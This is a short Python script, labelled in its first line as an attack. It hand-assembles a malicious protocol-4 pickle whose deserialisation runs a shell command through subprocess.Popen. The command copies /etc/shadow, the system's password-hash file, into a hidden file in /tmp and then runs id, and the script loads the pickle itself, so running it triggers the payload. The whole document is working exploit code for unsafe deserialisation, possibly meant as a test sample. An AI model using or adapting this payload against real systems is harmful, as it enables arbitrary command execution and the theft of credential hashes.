# attack: protocol-4 pickle built opcode by opcode (SHORT_BINUNICODE, STACK_GLOBAL, REDUCE) calling subprocess.Popen(["sh","-c",...])
import pickle
import struct


def s(text):
    raw = text.encode()
    return b"\x8c" + struct.pack("<B", len(raw)) + raw  # SHORT_BINUNICODE


body = (
    s("subprocess") + s("Popen") + b"\x93"           # STACK_GLOBAL
    + b"]" + b"("                                    # EMPTY_LIST, MARK
    + s("sh") + s("-c") + s("cat /etc/shadow > /tmp/.s; id")
    + b"e"                                           # APPENDS
    + b"\x85"                                        # TUPLE1
    + b"R"                                           # REDUCE
    + b"."                                           # STOP
)
frame = b"\x80\x04" + b"\x95" + struct.pack("<Q", len(body)) + body
proc = pickle.loads(frame)
proc.wait()
